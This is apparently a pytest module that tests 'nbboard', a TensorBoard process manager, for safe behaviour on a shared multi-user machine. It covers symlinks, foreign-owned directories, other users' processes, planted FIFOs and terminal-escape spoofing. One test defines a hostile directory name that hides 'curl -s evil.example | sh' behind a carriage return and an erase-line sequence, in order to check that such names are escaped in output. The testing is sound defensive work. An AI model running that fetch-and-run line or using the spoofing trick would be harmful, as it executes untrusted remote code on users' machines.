"""A careful neighbour on a shared machine: links, other owners, other users' processes, leftovers.

Real processes of another uid (``nobody``) run here: this machine and CI run as root, which can
start them, and which is the case where a careless ``kill`` would do the most harm. The non-root
view runs nbboard itself as ``nobody`` (a child that drops root after importing nbboard).
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

import nbboard
from nbboard import cli, procs, registry
from tests.helpers import nbboard_cli, plant_record, tensorboards_serving
from tests.reliability import figures

NOBODY = 65534
needs_root = pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="starting another uid's process needs root (CI is root)"
)


def _nobody_runs(*argv: str, check: bool = True, **kwargs: Any) -> subprocess.CompletedProcess[bytes]:
    """Run a command as ``nobody``: what another local user does on this machine."""
    return subprocess.run(list(argv), user=NOBODY, group=NOBODY, extra_groups=[], check=check, **kwargs)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def _old(path: Path) -> None:
    """Make a file look older than the 30 s nbboard leaves young logs alone for."""
    past = time.time() - 3600
    os.utime(path, (past, past), follow_symlinks=False)


@pytest.fixture
def users_dir(tmp_path: Path) -> Path:
    """A directory of the user's own, with an important file, that a link might point at."""
    mine = tmp_path / "my-project"
    (mine / "logs").mkdir(parents=True)
    os.chmod(mine, 0o755)
    for f in (mine / "important.log", mine / "logs" / "important.log", mine / "logs" / "tb-0123456789ab.log"):
        f.write_text("keep me")
        _old(f)
    return mine


def _untouched(mine: Path) -> None:
    assert (mine / "important.log").read_text() == "keep me"
    assert (mine / "logs" / "important.log").read_text() == "keep me"
    assert (mine / "logs" / "tb-0123456789ab.log").read_text() == "keep me"
    assert _mode(mine) == 0o755, "nbboard changed the permissions of a directory it did not create"
    assert sorted(p.name for p in mine.iterdir()) == ["important.log", "logs"], "nbboard created files in it"


# ---------------------------------------------------------------------------
# The registry directory: links and other owners are refused, with the fix


def test_symlinked_home_is_refused_and_its_target_untouched(isolated: Path, users_dir: Path, demo_logs: Path) -> None:
    home = Path(os.environ["NBBOARD_HOME"])
    home.symlink_to(users_dir)
    for args in (["start", "--logdir", str(demo_logs)], ["kill"], ["list"]):
        result = nbboard_cli(*args)
        assert result.returncode == 1, (args, result.stderr)
        assert "is a symbolic link" in result.stderr and str(home) in result.stderr
        assert "hint: set NBBOARD_HOME to a real directory of your own" in result.stderr
        assert "Traceback" not in result.stderr
    assert tensorboards_serving(demo_logs) == []
    _untouched(users_dir)


@pytest.mark.parametrize("sub", ["boards", "logs", "locks", "secrets", "tunnels"])
def test_symlinked_subdirectory_is_refused_and_its_target_untouched(
    isolated: Path, users_dir: Path, demo_logs: Path, sub: str
) -> None:
    registry.ensure_home()
    link = Path(os.environ["NBBOARD_HOME"]) / sub
    shutil.rmtree(link)
    link.symlink_to(users_dir / "logs" if sub == "logs" else users_dir)
    for args in (["kill"], ["start", "--logdir", str(demo_logs)]):
        result = nbboard_cli(*args)
        assert result.returncode == 1, (args, result.stderr)
        assert f"{link} is a symbolic link" in result.stderr and f"rm {link}" in result.stderr
    assert tensorboards_serving(demo_logs) == []
    _untouched(users_dir)


@needs_root
@pytest.mark.parametrize("which", ["home", "boards", "locks"])
def test_a_registry_directory_of_another_user_is_refused(isolated: Path, which: str) -> None:
    home = registry.ensure_home()
    theirs = home if which == "home" else home / which
    os.chown(theirs, NOBODY, NOBODY)
    os.chmod(theirs, 0o755)
    result = nbboard_cli("list")
    assert result.returncode == 1
    assert f"{theirs} belongs to another user (uid {NOBODY})" in result.stderr
    assert "hint: set NBBOARD_HOME to a directory of your own" in result.stderr
    assert _mode(theirs) == 0o755  # not chmodded either


@needs_root
@pytest.mark.parametrize("parent", ["theirs", "writable by all", "their link"])
def test_a_home_inside_a_directory_another_user_controls_is_refused(
    shared_dir: Path, isolated: Path, parent: str
) -> None:
    """NBBOARD_HOME=<shared>/you/nbboard with ``you`` made by ``nobody`` first (or world-writable, or their link
    to a directory of yours). Before: accepted; its owner could swap the registry for a link between nbboard's
    check and its use (seen: a rename loop made nbboard create boards/, locks/ and logs/ in the victim's
    directory the link pointed at); now refused with the fix."""
    mine = shared_dir / "mine"
    mine.mkdir()
    if parent == "theirs":
        where = shared_dir / "you"
        _nobody_runs("mkdir", "-m", "777", str(where))
        culprit, why = where, f"belongs to another user (uid {NOBODY})"
    elif parent == "writable by all":
        where = shared_dir / "you"
        where.mkdir()
        os.chmod(where, 0o777)
        culprit, why = where, "is writable by every user (and not sticky"
    else:
        where = shared_dir / "you"
        _nobody_runs("ln", "-s", str(mine), str(where))
        culprit, why = where, f"belongs to another user (uid {NOBODY})"
    os.environ["NBBOARD_HOME"] = str(where / "nbboard")
    for command in ("start", "list"):
        result = nbboard_cli(command, *(["--logdir", str(mine)] if command == "start" else []))
        assert result.returncode == 1, result.stdout + result.stderr
        assert f"is inside {culprit}, which {why}" in result.stderr, result.stderr
        assert "hint: set NBBOARD_HOME to a directory under one of your own" in result.stderr
        assert "Traceback" not in result.stderr
        made = [p for p in mine.rglob("*") if p != mine / "nbboard"]  # (the link's case: the test's own mkdir)
        assert made == [] and tensorboards_serving(mine) == []
        (where / "nbboard").mkdir(
            mode=0o700, exist_ok=True
        )  # ``list`` of a registry that is already there: refused as well


@needs_root
def test_a_registry_under_your_home_is_used_even_if_another_uid_owns_the_home(
    shared_dir: Path, isolated: Path, demo_logs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """OpenShift runs notebooks as an arbitrary uid in a home another uid owns: the registry under that home
    is still used (only directories outside your home are held against another owner)."""
    home = shared_dir / "home"
    _nobody_runs("mkdir", "-m", "775", str(home))
    monkeypatch.setenv("HOME", str(home))
    os.environ["NBBOARD_HOME"] = str(home / ".local" / "state" / "nbboard")
    started = nbboard_cli("start", "--logdir", str(demo_logs))
    assert started.returncode == 0, started.stdout + started.stderr
    assert nbboard_cli("kill").returncode == 0 and tensorboards_serving(demo_logs) == []


def test_a_shared_directory_as_home_is_refused_not_chmodded(isolated: Path, tmp_path: Path) -> None:
    """NBBOARD_HOME=/tmp (or /) as root would have made it 0700 and locked every other user out."""
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    os.environ["NBBOARD_HOME"] = str(shared)
    result = nbboard_cli("list")
    assert result.returncode == 1 and "is writable by every user" in result.stderr
    assert f"NBBOARD_HOME={shared}/nbboard-" in result.stderr
    assert _mode(shared) == 0o1777 and list(shared.iterdir()) == []
    # (NBBOARD_HOME=/ is refused the same way; not tried here: on an nbboard without the guard, the test
    # itself would make / 0700 for everyone on this machine.)


def test_an_overlong_home_is_a_one_line_error(isolated: Path, tmp_path: Path) -> None:
    os.environ["NBBOARD_HOME"] = str(tmp_path / ("h" * 300))
    result = nbboard_cli("list")
    assert result.returncode == 1 and "File name too long" in result.stderr and "Traceback" not in result.stderr
    first = result.stderr.splitlines()[0]
    assert len(first) < 250 and "(300 characters)" not in first or "…" in first


def test_home_on_a_read_only_file_system(isolated: Path, tmp_path: Path, demo_logs: Path) -> None:
    """A real read-only mount (tmpfs, remounted ro) holding a registry with one record."""
    mnt = tmp_path / "ro"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(mnt)], capture_output=True).returncode:
        pytest.skip("this machine does not let the test mount a file system (CI runs as root and can)")
    try:
        os.environ["NBBOARD_HOME"] = str(mnt / "nbboard")
        sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
        try:
            ps = psutil.Process(sleeper.pid)
            plant_record(sleeper.pid, ps.create_time() - 100, ps.cmdline())  # a record of a board long gone
            subprocess.run(["mount", "-o", "remount,ro", str(mnt)], check=True)
            listed = nbboard_cli("list")
            assert listed.returncode == 0 and "stale" in listed.stdout  # reading needs no writing
            started = nbboard_cli("start", "--logdir", str(demo_logs))
            assert started.returncode == 1, started.stderr
            assert "Read-only file system" in started.stderr and "Traceback" not in started.stderr
            assert tensorboards_serving(demo_logs) == []
            killed = nbboard_cli("kill")
            assert killed.returncode == 0 and "Traceback" not in killed.stderr, killed.stderr
            assert sleeper.poll() is None
        finally:
            sleeper.kill()
            sleeper.wait()
    finally:
        subprocess.run(["umount", "-l", str(mnt)], check=False)


# ---------------------------------------------------------------------------
# Only files nbboard named are ever deleted


def test_kill_deletes_only_files_nbboard_named(isolated: Path, tmp_path: Path, demo_logs: Path) -> None:
    home = registry.ensure_home()
    logs = home / "logs"
    important = logs / "important.log"
    important.write_text("keep me")
    orphan = logs / "tb-aaaaaaaaaaaa.log"  # a log nbboard named, whose board has no record any more
    orphan.write_text("old")
    outside = tmp_path / "outside.log"
    outside.write_text("keep me")
    lookalike_link = logs / "tb-bbbbbbbbbbbb.log"
    lookalike_link.symlink_to(outside)
    for f in (important, orphan, lookalike_link):
        _old(f)
    # Records and tunnel records that name files outside nbboard's directories, or under other names.
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        ps = psutil.Process(sleeper.pid)
        rec = registry.write(
            registry.BoardRecord(
                pid=sleeper.pid,
                port=1,
                logdir="/x",
                create_time=ps.create_time() - 100,
                cache_key="k",
                argv=(),
                start_time=0,
                log_path=str(outside),
            )
        )
        secret = home / "secrets" / "my-notes.secret"
        secret.write_text("keep me")
        registry.write_tunnel(
            registry.TunnelRecord(
                provider="localtunnel",
                public_url="https://x.example",
                helper_pid=sleeper.pid,
                helper_create_time=ps.create_time() - 100,
                gate_port=0,
                board_pid=sleeper.pid,
                secret_file=str(secret),
                log_path=str(outside),
            )
        )
        handmade = home / "boards" / "mine.json"  # a valid record under a name nbboard never writes
        handmade.write_text(Path(rec.path).read_text())
        result = nbboard_cli("kill")
        assert result.returncode == 0, result.stderr
        assert "removed 1 old log file(s)" in result.stdout
        assert not orphan.exists() and not Path(rec.path).exists()
        assert important.read_text() == outside.read_text() == secret.read_text() == "keep me"
        assert lookalike_link.is_symlink()
        assert handmade.exists() and "a name nbboard does not write" in result.stderr
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()


# ---------------------------------------------------------------------------
# Lock files: one per logdir no longer stays forever, and a held one is never removed


def test_idle_lock_files_are_removed_and_a_held_one_never(isolated: Path, demo_logs: Path, tmp_path: Path) -> None:
    import filelock

    locks = registry.locks_dir()
    dirs = []
    for i in range(3):
        d = tmp_path / f"run{i}"
        d.mkdir()
        dirs.append(d)
        assert nbboard_cli("start", "--logdir", str(d)).returncode == 0
    assert len(list(locks.glob("*.lock"))) >= 1  # the last start's lock (earlier ones went at the next start)
    held_path = locks / ("f" * 24 + ".lock")
    held = filelock.FileLock(str(held_path))
    held.acquire()  # another process starting a board right now (a lock held in this process counts the same)
    user_file = locks / "notes.txt"
    user_file.write_text("keep me")
    try:
        result = nbboard_cli("kill")
        assert result.returncode == 0, result.stderr
        assert sorted(p.name for p in locks.iterdir()) == sorted([held_path.name, "notes.txt"])
    finally:
        held.release()
    assert nbboard_cli("kill").returncode == 0
    assert [p.name for p in locks.iterdir()] == ["notes.txt"]
    # And starting again after the clean-up works: the lock file is simply made again.
    assert nbboard_cli("start", "--logdir", str(dirs[0])).returncode == 0


def test_a_lock_won_on_an_unlinked_file_is_taken_again(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The race of removing lock files: a starter opens the lock file, the clean-up unlinks it, the starter
    wins the lock on the dead file, and a third process creates and locks a new file under the same name.
    Both would "hold" it. registry.lock checks after winning and takes the lock again on the live file."""
    import filelock

    key = "e" * 24
    path = registry.locks_dir() / f"{key}.lock"
    lock_class = type(filelock.FileLock(str(path)))
    real_acquire = lock_class.acquire
    raced: list[int] = []

    def acquire_then_lose_the_race(self, *args, **kwargs):  # type: ignore[no-untyped-def]
        result = real_acquire(self, *args, **kwargs)
        if not raced:
            raced.append(os.stat(path).st_ino)
            os.unlink(path)  # the clean-up removed the file just after this starter won it
        return result

    monkeypatch.setattr(lock_class, "acquire", acquire_then_lose_the_race)
    with registry.lock(key, timeout=5):
        monkeypatch.setattr(lock_class, "acquire", real_acquire)
        assert raced and path.exists()
        other = subprocess.run(
            [sys.executable, "-c", f"import filelock; filelock.FileLock({str(path)!r}).acquire(timeout=0)"],
            capture_output=True,
            text=True,
        )
        assert other.returncode != 0 and "Timeout" in other.stderr, "a second process got the lock too"


def test_a_symlinked_lock_file_is_a_clear_error(isolated: Path, demo_logs: Path, tmp_path: Path) -> None:
    from nbboard import logdirs

    key = logdirs.cache_key(logdirs.resolve(str(demo_logs)), ())
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    (registry.locks_dir() / f"{key}.lock").symlink_to(target)
    result = nbboard_cli("start", "--logdir", str(demo_logs))
    assert result.returncode == 1 and "cannot take the start lock" in result.stderr and "rm " in result.stderr
    assert target.read_text() == "keep me" and tensorboards_serving(demo_logs) == []


# ---------------------------------------------------------------------------
# Records that name another user's process


@pytest.fixture
def nobodys_process() -> Iterator[subprocess.Popen[bytes]]:
    """A live process running as ``nobody`` (root starts it; /bin/sleep, as nobody cannot read root's Python)."""
    proc = subprocess.Popen(["sleep", "120"], user=NOBODY, group=NOBODY, extra_groups=[])
    yield proc
    proc.kill()
    proc.wait()


@needs_root
def test_root_never_signals_another_users_process(
    isolated: Path, nobodys_process: subprocess.Popen[bytes], capsys: pytest.CaptureFixture[str]
) -> None:
    ps = psutil.Process(nobodys_process.pid)
    assert ps.uids().real == NOBODY
    selectors: list[list[str]] = [[], ["--pid", str(ps.pid)], ["--port", "1"]]
    for selector in selectors:
        # A record that proves the process in every other way (pid, creation time, command line).
        record = plant_record(ps.pid, ps.create_time(), ps.cmdline())
        listed = nbboard.list()
        assert listed[0].status == "stale" and "another user" in listed[0].reason
        assert cli.main(["kill", *selector]) == 0
        out = capsys.readouterr().out
        assert f"pid {ps.pid}" in out and "runs as another user, nobody (uid 65534): skipped" in out
        assert nobodys_process.poll() is None, "root killed another user's process"
        assert not record.exists()
    # And an unrecorded process carrying this registry's tag in its environment (root can read it):
    tagged = subprocess.Popen(
        ["sleep", "120"],
        user=NOBODY,
        group=NOBODY,
        extra_groups=[],
        env={**os.environ, procs.OWNER_VAR: procs.owner_tag()},
    )
    try:
        time.sleep(0.2)
        assert cli.main(["kill"]) == 0
        assert tagged.poll() is None, "root killed another user's process found by its tag"
    finally:
        tagged.kill()
        tagged.wait()
    figures.record(
        "another user's processes: run as root, records proving a `nobody` process by pid, creation time and "
        f"command line, under {len(selectors)} kill selectors, plus an unrecorded one carrying this registry's tag",
        "0 signalled, every record cleaned and reported as skipped; as `nobody` against root's process: exit 0, "
        "not exit 3",
    )


AS_NOBODY = """
import importlib, os, pkgutil, sys
import nbboard
for m in pkgutil.walk_packages(nbboard.__path__, "nbboard."):
    if not m.name.endswith("__main__"):
        importlib.import_module(m.name)  # everything nbboard imports late, while root's files are readable
import filelock, json, psutil
os.setgroups([]); os.setgid(65534); os.setuid(65534)
exec(sys.argv[1])
"""

PLANT = """
import psutil
from nbboard import registry
p = psutil.Process({pid})
registry.write(registry.BoardRecord(pid=p.pid, port=1, logdir="/planted", create_time=p.create_time(),
                                    cache_key="planted", argv=tuple(p.cmdline()), start_time=0))
"""


@pytest.fixture
def nobody_home() -> Iterator[Path]:
    """A directory ``nobody`` owns for its registry and temp files (the test's tmp_path is root's, 0700)."""
    base = Path(tempfile.mkdtemp(prefix="nbboard-nobody-", dir="/tmp"))
    (base / "tmp").mkdir()
    for d in (base, base / "tmp"):
        os.chown(d, NOBODY, NOBODY)
    yield base
    shutil.rmtree(base, ignore_errors=True)


def _as_nobody(home: Path, code: str) -> subprocess.CompletedProcess[str]:
    """Run ``code`` in a Python that imported nbboard as root, then became ``nobody``."""
    env = {**os.environ, "NBBOARD_HOME": str(home / "home"), "TMPDIR": str(home / "tmp"), "HOME": str(home)}
    return subprocess.run(
        [sys.executable, "-c", AS_NOBODY, code], cwd=home, env=env, capture_output=True, text=True, timeout=120
    )


@needs_root
def test_a_user_cannot_be_made_to_signal_roots_process(nobody_home: Path) -> None:
    """nbboard run as ``nobody``, with a record naming a root process: before, psutil.AccessDenied ended
    ``kill`` with exit 3 and left the record behind."""
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        code = PLANT.format(pid=victim.pid) + (
            "from nbboard.cli import main\n"
            "print('LIST', main(['list']))\n"
            "print('KILL', main(['kill']))\n"
            "print('LEFT', len(list(registry.boards_dir().iterdir())))\n"
        )
        result = _as_nobody(nobody_home, code)
        assert "LIST 0" in result.stdout and "KILL 0" in result.stdout, result.stdout + result.stderr
        assert "runs as another user, root (uid 0): skipped" in result.stdout
        assert "LEFT 0" in result.stdout  # its record is cleaned
        assert "Traceback" not in result.stderr and "internal error" not in result.stderr
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


@needs_root
def test_an_unreadable_parent_directory_is_a_clear_error(nobody_home: Path, tmp_path: Path) -> None:
    """As ``nobody``: a logdir under root's 0700 directory (tmp_path's parents are root's and private)."""
    hidden = tmp_path / "private" / "logs"
    hidden.mkdir(parents=True)
    code = (
        "import nbboard\nfrom nbboard.cli import main\n"
        f"print('CLI', main(['start', '--logdir', {str(hidden)!r}]))\n"
        f"try:\n    nbboard.start({str(hidden)!r})\nexcept nbboard.NbboardError as e:\n    print('API', type(e).__name__, e)\n"
    )
    result = _as_nobody(nobody_home, code)
    assert "CLI 2" in result.stdout, result.stdout + result.stderr
    assert "API UsageError" in result.stdout
    assert "permission denied" in result.stderr and "Traceback" not in result.stderr
    assert "pick a directory you can read" in result.stderr
    assert tensorboards_serving(hidden) == []


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """A directory every user may write in, sticky like /tmp (a kernel's working directory can be one).

    Ask for it before ``isolated``: that one's clean-up (a kill) may recreate a registry in it."""
    base = Path(tempfile.mkdtemp(prefix="nbboard-shared-", dir="/tmp"))
    os.chmod(base, 0o1777)
    yield base
    shutil.rmtree(base, ignore_errors=True)


@needs_root
@pytest.mark.parametrize("planted", [["mkfifo"], ["ln", "-s", "/dev/zero"]], ids=["fifo", "link-to-dev-zero"])
def test_an_ignore_file_planted_in_a_shared_working_directory_does_not_hang_the_search(
    shared_dir: Path, isolated: Path, planted: list[str]
) -> None:
    """``nbboard start`` (and ``%board``) with no logdir reads the working directory's ``.nbboardignore``.
    Before: ``nobody`` planting it there as a FIFO made the search wait forever (a link to /dev/zero: read
    without end); now it is passed over and the usual one-line answer comes."""
    _nobody_runs(*planted, str(shared_dir / ".nbboardignore"))
    result = nbboard_cli("start", cwd=shared_dir, timeout=60)
    assert result.returncode == 2, result.stdout + result.stderr
    assert f"no event files (events.out.tfevents.*) under {shared_dir}" in result.stderr
    assert "Traceback" not in result.stderr


@needs_root
@pytest.mark.parametrize(
    "planted", [["mkfifo"], ["ln", "-s", "/dev/zero"], ["ln", "-s", ".tensorboard-info"]], ids=["fifo", "zero", "loop"]
)
def test_tensorboards_info_directory_planted_as_no_directory_costs_a_board_nothing(
    shared_dir: Path, isolated: Path, demo_logs: Path, planted: list[str]
) -> None:
    """Guard: ``nobody`` makes ``<shared temp>/.tensorboard-info`` a FIFO, a link to /dev/zero or a link to
    itself before you start. Start, list and kill work as usual (the board only has no ``%tensorboard`` file)."""
    os.environ["TMPDIR"] = str(shared_dir)
    info = shared_dir / ".tensorboard-info"
    _nobody_runs(*planted, str(info), cwd=shared_dir)
    started = nbboard_cli("start", "--logdir", str(demo_logs))
    assert started.returncode == 0, started.stdout + started.stderr
    assert len(tensorboards_serving(demo_logs)) == 1
    listed = nbboard_cli("list")
    assert listed.returncode == 0 and str(demo_logs) in listed.stdout and "Traceback" not in listed.stderr
    killed = nbboard_cli("kill")
    assert killed.returncode == 0 and "stopped TensorBoard" in killed.stdout, killed.stdout + killed.stderr
    assert tensorboards_serving(demo_logs) == []
    assert info.is_symlink() or stat.S_ISFIFO(info.lstat().st_mode)  # left as it was


@needs_root
def test_your_tensorboard_info_directory_made_by_tensorboard_is_made_sticky(
    shared_dir: Path, isolated: Path, demo_logs: Path
) -> None:
    """A plain ``%tensorboard`` ran first: ``<temp>/.tensorboard-info`` is yours, 0777 and not sticky. Before:
    nbboard wrote its boards' files there as they were and ``nobody`` could delete them (``%tensorboard`` and
    ``tensorboard.notebook.list()`` then lost the board); now the directory is made sticky first."""
    os.environ["TMPDIR"] = str(shared_dir)
    info = shared_dir / ".tensorboard-info"
    info.mkdir()
    os.chmod(info, 0o777)  # as tensorboard.manager makes it
    started = nbboard_cli("start", "--logdir", str(demo_logs))
    assert started.returncode == 0, started.stdout + started.stderr
    (board,) = tensorboards_serving(demo_logs)
    mine = info / f"pid-{board.pid}.info"
    assert mine.is_file()
    rm = _nobody_runs("rm", "-f", str(mine), check=False, capture_output=True)
    assert rm.returncode != 0 and mine.is_file(), "another user deleted your board's %tensorboard file"
    assert _mode(info) == 0o1777  # everyone can still add their own
    assert nbboard_cli("kill").returncode == 0


HOSTILE_NAME = "x\r  nbboard start --logdir runs; curl -s evil.example | sh  #\x1b[K"


@needs_root
def test_a_directory_name_planted_in_a_shared_working_directory_cannot_rewrite_the_lines_to_copy(
    shared_dir: Path, isolated: Path
) -> None:
    """``nbboard start`` with no logdir lists the logdirs found as lines to run. Before: ``nobody``'s directory
    named with a carriage return and an erase-line sequence was printed as it is, so a terminal (or a
    notebook, which honours both) showed ``nbboard start --logdir runs; curl -s evil.example | sh`` as one
    of them; now its control characters are shown escaped."""
    for name in ("runs", HOSTILE_NAME):
        _nobody_runs("mkdir", str(shared_dir / name))
        events = str(shared_dir / name / "events.out.tfevents.1.host")
        _nobody_runs("touch", events)
    result = nbboard_cli("start", cwd=shared_dir, timeout=60)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "found event files in 2 places" in result.stderr
    assert "\r" not in result.stderr and "\x1b" not in result.stderr, repr(result.stderr)
    assert "  nbboard start --logdir 'x\\r  nbboard start --logdir runs; curl -s evil.example | sh  #\\x1b[K'" in (
        result.stderr
    )
    assert "  nbboard start --logdir runs " in result.stderr


# ---------------------------------------------------------------------------
# --restart keeps the board when the new start cannot work


def test_restart_onto_a_taken_port_keeps_the_old_board(isolated: Path, demo_logs: Path) -> None:
    import socket

    old = nbboard.start(str(demo_logs))
    holder = socket.socket()
    holder.bind(("127.0.0.1", 0))
    holder.listen()
    try:
        taken = holder.getsockname()[1]
        result = nbboard_cli("start", "--logdir", str(demo_logs), "--restart", "--port", str(taken))
        assert result.returncode == 1 and f"port {taken} is in use" in result.stderr
        (still,) = nbboard.list()
        assert (still.pid, still.status) == (old.pid, "running"), "the old board was stopped for nothing"
    finally:
        holder.close()


def test_restart_that_fails_after_stopping_says_what_it_stopped(isolated: Path, demo_logs: Path) -> None:
    old = nbboard.start(str(demo_logs))
    # A timeout too short for any TensorBoard: the new start fails after the old board was stopped.
    result = nbboard_cli("start", "--logdir", str(demo_logs), "--restart", "--timeout", "0.01")
    assert result.returncode == 1, result.stderr
    assert "did not answer within 0.01 s" in result.stderr
    assert (
        f"--restart had already stopped the board that served {demo_logs} (pid {old.pid} on port {old.port})"
        in result.stderr
    )
    assert "run the same start without --restart" in result.stderr
    assert nbboard.list() == [] and tensorboards_serving(demo_logs) == []


# ---------------------------------------------------------------------------
# Exit codes, as documented: 0 done, 1 an error nbboard explains, 2 bad usage, 130 interrupted, 3 a bug


def test_every_documented_exit_code(
    isolated: Path, demo_logs: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert nbboard_cli("list").returncode == 0
    assert nbboard_cli("kill", "--port", "1").returncode == 1
    for usage in (["start", "x", "--port", "abc"], ["start", "x", "--port", "99999"], ["start", "x", "--timeout", "-1"],
                  ["start"], ["start", "--logidr", "x"], ["frobnicate"], []):  # fmt: skip
        result = nbboard_cli(*usage)
        assert result.returncode == 2, (usage, result.stderr)
    from nbboard import api

    def broken() -> None:
        raise RuntimeError("an nbboard bug")

    monkeypatch.setattr(api, "scan", broken)
    assert cli.main(["list"]) == 3
    err = capsys.readouterr().err
    assert "internal error: RuntimeError: an nbboard bug" in err and "please report it" in err
    assert "Traceback" not in err


def test_sigint_mid_start_exits_130_and_leaves_nothing_unrecorded(isolated: Path, demo_logs: Path) -> None:
    """SIGINT (Ctrl-C) to a real `nbboard start`: once it holds the start lock, once TensorBoard is
    launched and recorded, and at a fixed moment."""
    locks, boards = registry.locks_dir(), registry.boards_dir()

    def holds_lock() -> bool:
        return any(locks.glob("*.lock"))

    def launched() -> bool:
        return any(boards.glob("pid-*.json"))

    # The fixed moment counts from nbboard's main(), not from the exec: on a loaded machine the interpreter alone
    # takes longer than that to start, and a Ctrl-C inside Python's own start-up is Python's to report.
    from_main = (
        "import sys\nfrom nbboard.cli import main\nprint('main', flush=True)\n"
        f"sys.exit(main(['start', '--logdir', {str(demo_logs)!r}]))"
    )
    interrupted = 0
    for moment in (holds_lock, launched, 0.5):
        assert nbboard_cli("kill").returncode == 0
        argv = ["-m", "nbboard", "start", "--logdir", str(demo_logs)] if callable(moment) else ["-c", from_main]
        starter = subprocess.Popen([sys.executable, *argv], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        if callable(moment):
            deadline = time.monotonic() + 30
            while not moment() and starter.poll() is None and time.monotonic() < deadline:
                time.sleep(0.002)
        else:
            assert starter.stdout is not None and starter.stdout.readline() == "main\n"
            time.sleep(moment)
        starter.send_signal(signal.SIGINT)
        out, err = starter.communicate(timeout=60)
        if starter.returncode == 0:
            continue  # it finished before the signal arrived
        interrupted += 1
        assert starter.returncode == 130, (moment, err)
        assert "nbboard: interrupted" in err and "nbboard kill stops it" in err and "Traceback" not in err
        time.sleep(0.3)
        recorded = {i.pid for i in nbboard.list()}
        for p in tensorboards_serving(demo_logs):
            with contextlib.suppress(psutil.NoSuchProcess):
                known = p.pid in recorded or p.environ().get(procs.OWNER_VAR) == procs.owner_tag()
                assert known, f"TensorBoard {p.pid} is neither recorded nor tagged for kill ({moment})"
        assert not list(boards.glob(".tmp-*")), "an interrupted write left a temp file"
    assert interrupted >= 2
    assert nbboard_cli("kill").returncode == 0
    assert tensorboards_serving(demo_logs) == []
